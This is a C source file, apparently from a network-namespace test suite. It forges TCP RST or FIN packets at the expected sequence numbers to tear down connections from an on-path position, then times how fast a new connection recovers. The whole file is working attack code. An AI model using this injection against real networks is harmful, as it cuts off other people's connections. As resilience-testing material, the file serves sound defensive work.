/* SPDX-License-Identifier: MIT */
/* Ends TCP connections to the victim's port from the path, with RST or FIN at exactly the sequence number
 * that the receiver expects, to one end and to the other in turn; tells how long it takes until data passes
 * both ways on a connection that was not there before. */
#include "tests/netns/attack/attack.h"
#include "tests/netns/attack/onpath.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define TCP_AT IP_HEADER_LEN
#define TCP_LEN 20
#define FIN 0x01
#define RST 0x04
#define ACK 0x10
#define TRIES_S 5.0

struct segment {
	bool up; /* towards the victim's port */
	uint32_t client_be, server_be;
	uint16_t client_port;
	uint32_t seq, ack, payload;
	uint8_t flags;
};

static bool parse(const struct attack *attack, const uint8_t *packet, size_t len, struct segment *out)
{
	const uint8_t *tcp = packet + TCP_AT;
	size_t header;

	if (len < TCP_AT + TCP_LEN || packet[9] != IPPROTO_TCP)
		return false;
	header = (size_t)(tcp[12] >> 4) * 4;
	*out = (struct segment){ .seq = read32(tcp + 4), .ack = read32(tcp + 8), .flags = tcp[13] };
	out->up = read16(tcp + 2) == attack->port;
	if (!out->up && read16(tcp) != attack->port)
		return false;
	memcpy(&out->client_be, packet + (out->up ? 12 : 16), 4);
	memcpy(&out->server_be, packet + (out->up ? 16 : 12), 4);
	out->client_port = read16(tcp + (out->up ? 0 : 2));
	/* The length in the header of an offloaded burst may be 0; what was captured counts. */
	if (len < TCP_AT + header)
		return false;
	out->payload = (uint32_t)(len - TCP_AT - header);
	return true;
}

/* To the end that this segment goes to: what it expects after it. */
static void inject(const struct attack *attack, int out, const struct segment *segment)
{
	uint8_t packet[TCP_AT + TCP_LEN] = { 0 }, *tcp = packet + TCP_AT;

	raw_header(packet, IPPROTO_TCP, segment->up ? segment->client_be : segment->server_be,
		segment->up ? segment->server_be : segment->client_be, sizeof(packet));
	write16(tcp, segment->up ? segment->client_port : attack->port);
	write16(tcp + 2, segment->up ? attack->port : segment->client_port);
	write32(tcp + 4, segment->seq + segment->payload);
	write32(tcp + 8, segment->ack);
	tcp[12] = TCP_LEN / 4 << 4;
	tcp[13] = attack->fin ? FIN | ACK : RST | ACK;
	write16(tcp + 14, 512);
	raw_tcp_checksum(packet, sizeof(packet));
	raw_send(out, packet, sizeof(packet));
}

/* One round: seconds until data passes both ways on a newer connection; below 0: it does not. */
static double round_of(const struct attack *attack, int in, int out, bool up)
{
	uint8_t packet[ONPATH_PACKET_MAX];
	double struck = 0, limit = attack_now() + 30;
	uint16_t port = 0, fresh = 0;
	bool up_seen = false, down_seen = false;

	/* What waits in the socket is of before. */
	while (onpath_next(in, packet, 0))
		;
	while (!attack_stopped && attack_now() < limit) {
		struct segment segment;
		size_t len = onpath_next(in, packet, 100);

		if (!len || !parse(attack, packet, len, &segment))
			continue;
		if (!port || (segment.client_port == port && !fresh && attack_now() < struck + TRIES_S)) {
			if (!(segment.flags & ACK) || segment.flags & (RST | FIN | 2) || segment.up != up)
				continue;
			inject(attack, out, &segment);
			/* The clock runs from the first blow that can have hit. */
			if (!port) {
				port = segment.client_port;
				struck = attack_now();
			}
			continue;
		}
		if (segment.client_port == port)
			continue;
		if (segment.client_port != fresh) {
			fresh = segment.client_port;
			up_seen = down_seen = false;
		}
		if (segment.payload >= 40) {
			up_seen |= segment.up;
			down_seen |= !segment.up;
		}
		if (up_seen && down_seen)
			return attack_now() - struck;
	}
	return -1;
}

int attack_reset(const struct attack *attack)
{
	int in = onpath_open(attack->interface), out = raw_open();
	uint64_t done = 0, failed = 0;

	if (in < 0 || out < 0)
		return in < 0 ? in : out;
	fprintf(stderr, "ready\n");
	printf("{\"ms\": [");
	while (!attack_stopped && done < attack->count) {
		double took = round_of(attack, in, out, done % 2);

		if (took < 0)
			failed++;
		else
			printf("%s%.1f", done - failed ? ", " : "", took * 1000);
		done++;
		usleep((useconds_t)(attack->pause * 1e6));
	}
	printf("], \"done\": %llu, \"failed\": %llu}\n", (unsigned long long)done,
		(unsigned long long)failed);
	close(in);
	close(out);
	return 0;
}
